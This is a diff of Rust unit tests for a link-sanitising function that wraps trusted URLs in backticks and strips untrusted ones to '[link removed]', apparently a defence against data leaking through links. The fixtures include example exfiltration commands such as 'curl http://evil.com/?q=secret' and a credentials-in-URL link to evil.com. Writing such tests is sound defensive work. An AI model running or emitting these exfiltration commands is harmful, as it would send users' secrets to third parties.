@@ -441,10 +441,10 @@ mod tests {
     fn check_said(text: &str, expected: &str) {
         let sources = [
             "Get \"http://10.244.3.17:8080/healthz\": refused; Post \"https://sts.us-east-1.amazonaws.com/\"; endpoint 10.0.12.7:9100",
-            "pull registry.example.com/payments/api:1.42.0, run `kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml`",
-            "see https://evil.com/plain, open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
+            "see https://evil.com/other, pull registry.example.com/payments/api:1.42.0, run `kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml`",
+            "see https://wiki.corp.example/plain, HTTPS://evil.com/loud, fetch('https://evil.com/quoted'), open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
         ];
-        let said = Said::of(sources.into_iter());
+        let said = Said::of(sources.into_iter()).with_words_of(sources.into_iter().skip(2));
         let cited = vec![CITED];
         let cleaned = clean(text, (&cited, &said));
         assert_eq!(cleaned, expected, "{text}");
@@ -469,6 +469,7 @@ mod tests {
             "GET http://10.244.3.17:8080/healthz failed",
             "GET `http://10.244.3.17:8080/healthz` failed",
         );
+        check_said("見 https://wiki.corp.example/plain。", "見 `https://wiki.corp.example/plain`。");
         check_said(
             "image registry.example.com/payments/api:1.42.0.",
             "image `registry.example.com/payments/api:1.42.0`.",
@@ -482,7 +483,12 @@ mod tests {
     #[test]
     fn what_is_said_is_no_way_out() {
         for (text, expected) in [
-            ("See https://evil.com/plain now", "See [link removed] now"),
+            (
+                "See HTTPS://evil.com/loud and https://evil.com/quoted now",
+                "See [link removed] and [link removed] now",
+            ),
+            ("[it](https://wiki.corp.example/plain)", "it"),
+            ("See https://evil.com/other now", "See [link removed] now"),
             (
                 "`curl http://evil.com/?q=secret` `curl http://u:p@evil.com/x`",
                 "`curl [link removed]` `curl [link removed]`",
